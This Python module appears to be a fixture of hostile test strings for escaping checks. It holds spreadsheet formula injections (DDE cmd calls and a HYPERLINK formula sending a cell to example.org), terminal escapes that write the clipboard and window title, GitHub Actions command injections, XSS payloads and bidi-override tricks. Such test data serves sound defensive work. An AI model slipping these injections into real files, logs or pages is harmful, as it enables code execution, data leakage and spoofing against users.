"""Texts of strangers that someone obeys: a terminal, a spreadsheet, a build server, a browser."""

from __future__ import annotations

HOSTILE = {
    "formula": "=cmd|'/c calc'!A0",
    "formula of a link": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "formula with plus": "+1+cmd|'/c calc'!A0",
    "formula with minus": "-2+3+cmd|'/c calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "formula behind a newline": "\n=1+1",
    "formula behind blanks": "  =1+1",
    "formula behind an apostrophe": "'=1+1",
    "wide formula": "＝１＋１",
    "wide at": "＠SUM(1)",
    "cell that ends": 'x","=1+1',
    "row that ends": 'x"\n=1+1,"',
    "colour": "\x1b[31mred\x1b[0m",
    "title of a window": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://example.org\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y2FsYw==\x07",
    "controls of eight bits": "\x9b31m\x9d0;owned\x9c\x85",
    "line drawn over": "right\rwrong\x08\x08",
    "end of a text": "x\x00y\x7f",
    "turned around": "\u202e00001\u202c \u2066x\u2069 \u200f\u061c",
    "lines of Unicode": "one\u2028two\u2029three\x0b\x0c",
    "byte order mark": "\ufeffx",
    "command of GitHub": "::error file=a,line=1::owned",
    "command of GitHub on a line": "x\n::set-env name=PATH::/tmp\r\n::stop-commands::x",
    "old command of GitHub": "##[set-env name=PATH]/tmp",
    "property of GitHub": "x,line=1::y%0A::z%25",
    "finding": "x\nlog.toml:1:1: error X999 owned",
    "script": "<script>alert(1)</script>",
    "tag that ends": "\"'></title></td><img src=x onerror=alert(1)>",
    "comment": "<!-- x --> ]]> <![CDATA[ &lt; &x; &#0;",
    "link of Markdown": "[x](javascript:alert(1)) ![x](https://example.org/x.png)",
    "table of Markdown": "a | b\n| --- |\n```\n# x",
    "JSON": '"}],"x":"\\u0000\\',
    "template": "{0}{x}{reason}%s%(x)s{{}}",
}

OBEYED = frozenset(
    "\x00\x07\x08\x0b\x0c\r\x1b\x7f\x85\x9b\x9c\x9d\u061c\u200f\u2028\u2029\u202c\u202e\u2066\u2069\ufeff"
)
"""The characters of these texts that none gets out."""
